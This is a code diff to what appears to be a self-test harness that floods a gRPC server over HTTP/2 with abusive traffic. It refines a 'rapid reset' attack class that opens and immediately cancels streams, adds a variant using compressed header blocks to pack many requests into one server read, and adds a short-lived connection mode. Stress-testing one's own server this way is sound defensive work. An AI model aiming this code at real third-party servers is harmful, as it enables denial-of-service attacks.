@@ -8,6 +8,7 @@ count as the server's.
 from __future__ import annotations
 
 import contextlib
+import itertools
 import os
 import random
 import threading
@@ -78,6 +79,8 @@ class Abuse:
     pause_seconds: float = 0.0
     # True if the attacker reads its socket.
     reads: bool = True
+    # True if it closes each connection after the first two chunks.
+    is_brief: bool = False
     target: Target = field(default_factory=lambda: Target("", ()))
 
     def chunks(self) -> Iterator[bytes]:
@@ -85,39 +88,43 @@ class Abuse:
         raise NotImplementedError
 
 
+@dataclass
 class RapidReset(Abuse):
     """Requests that are cancelled immediately, without a token."""
 
+    resets_per_chunk: int = FRAMES_PER_CHUNK
+
     def chunks(self) -> Iterator[bytes]:
         yield frames.HANDSHAKE
-        head = frames.rpc_header_block("ResolveRecipients", self.token())
+        head, later_head = self.header_blocks()
         cancel = CANCEL.to_bytes(4, "big")
         stream = 1
         while stream < 1 << 30:
             chunk = bytearray()
-            for _ in range(self.resets_per_chunk()):
+            for _ in range(self.resets_per_chunk):
                 chunk += frames.frame(HEADERS, END_HEADERS, stream, head)
                 chunk += self.message(stream)
                 chunk += frames.frame(RST_STREAM, 0, stream, cancel)
+                head = later_head
                 stream += 2
             yield bytes(chunk)
 
-    def token(self) -> str:
-        return ""
+    def header_blocks(self) -> tuple[bytes, bytes]:
+        """Returns the header blocks of the first request and of each later one."""
+        block = frames.rpc_header_block("ResolveRecipients")
+        return block, block
 
     def message(self, stream: int) -> bytes:
         del stream
         return b""
 
-    def resets_per_chunk(self) -> int:
-        return FRAMES_PER_CHUNK
-
 
 class RapidResetOfRequests(RapidReset):
-    """Valid requests that are cancelled immediately, few enough to stay below every limit."""
+    """Valid requests that are cancelled immediately."""
 
-    def token(self) -> str:
-        return self.target.token
+    def header_blocks(self) -> tuple[bytes, bytes]:
+        block = frames.rpc_header_block("ResolveRecipients", self.target.token)
+        return block, block
 
     def message(self, stream: int) -> bytes:
         request = recipients_pb2.ResolveRecipientsRequest(
@@ -126,8 +133,12 @@ class RapidResetOfRequests(RapidReset):
         body = frames.message(request.SerializeToString())
         return frames.frame(DATA, END_STREAM, stream, body)
 
-    def resets_per_chunk(self) -> int:
-        return 10
+
+class RapidResetOfShortRequests(RapidResetOfRequests):
+    """The same with headers of a few bytes, so that one read of the server contains many requests."""
+
+    def header_blocks(self) -> tuple[bytes, bytes]:
+        return frames.indexed_header_blocks(frames.rpc_path("ResolveRecipients"), self.target.token)
 
 
 class ContinuationFlood(Abuse):
@@ -344,8 +355,9 @@ class Line:
     def __init__(self, abuse: Abuse) -> None:
         self._connection = connect(abuse.target.address)
         self._connection.setblocking(False)
-        self._chunks = abuse.chunks()
+        self._chunks = itertools.islice(abuse.chunks(), 2 if abuse.is_brief else None)
         self._reads = abuse.reads
+        self._is_brief = abuse.is_brief
         self._rest = b""
         self.is_done = False
 
@@ -360,7 +372,7 @@ class Line:
                 self.is_done = not self._rest
             if self._rest:
                 self._send(count)
-            return self._take()
+            return self._take() and not (self._is_brief and self.is_done)
         except OSError:
             return False
 
